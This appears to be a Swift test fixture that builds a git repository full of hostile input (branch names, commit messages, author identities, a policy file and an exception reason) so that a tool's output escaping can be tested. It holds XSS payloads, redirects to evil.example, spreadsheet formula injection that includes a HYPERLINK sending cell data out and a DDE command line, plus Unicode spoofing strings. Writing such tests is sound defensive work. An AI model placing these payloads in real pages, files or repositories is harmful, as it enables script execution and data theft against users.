import CountersignTesting

extension Repositories {
  /// What somebody might write to run something in the reader's browser, to mislead him, or to break the page.
  private static let texts = [
    "<script>alert(1)</script>", "</title></style></script><img src=x onerror=alert(1)>", "--> <!-- ]]> <![CDATA[",
    "<svg onload=alert(1)><style>*{display:none}</style>", "\"'><a href=javascript:alert(1)>open me</a>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>", "<base href=https://evil.example/>",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open me\")", "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "a & b &amp; &#60; &lt;script&gt;", "safe \u{202E}gnp.exe", "zero\u{200B}width \u{2066}isolated\u{2069}",
    "escaped \u{1B}[31mred and \u{7}bell", "مرحبا بالعالم 123 שלום", "Zażółć gęślą jaźń – 日本語 – e\u{301} – 🛡",
    String(repeating: "wide", count: 500), String(repeating: "é", count: 1 << 19),
    String(repeating: "\u{301}", count: 900), "{{7*7}} ${7*7} %s",
  ]

  /// A repository in which all that somebody else writes is hostile: titles, names, addresses, trailers, suites, an
  /// exception's reason, and the name of the branch.
  static func hostile() throws -> RepositoryBuilder {
    let repository = try RepositoryBuilder()
    let branch = "refs/heads/\"'><script>alert(1)</script>"
    let evil = policy.replacing("{branch: main}", with: "{branch: '\"''><script>alert(1)</script>'}").replacing(
      "[unit]", with: "[unit, '<script>alert(2)</script>']")
    try repository.git("symbolic-ref", "HEAD", branch)
    try repository.commit("Bring the policy", on: branch, files: ["countersign.yml": evil])
    var last = ""
    for (number, text) in texts.enumerated() {
      let name = String(
        text.unicodeScalars.filter { !"<>\n".unicodeScalars.contains($0) }.prefix(300).map(Character.init))
      let eve = Identity(name: name, email: "\"&'=1+1;alert(1)\u{202E}@example.com")
      let trailers = "Reviewed-by: \(text.prefix(200)) <bob\(number)@example.com>\nTested-by: \(text.prefix(200))"
      last = try repository.commit("\(text)\n\n\(trailers)", on: branch, author: eve)
    }
    try repository.commit(bytes: Array("\u{FF}caf".utf8) + [0xE9, 0xFE, 0x0A], on: branch)
    try repository.commit("", on: branch)
    let reason = "</script><script>alert(3)</script> it's \u{202E}late"
    try repository.commit(
      "Accept it\n\n\(approved)", on: branch,
      files: [".countersign/exceptions/EX-1.yml": exception(for: last, reason: reason)])
    return repository
  }
}
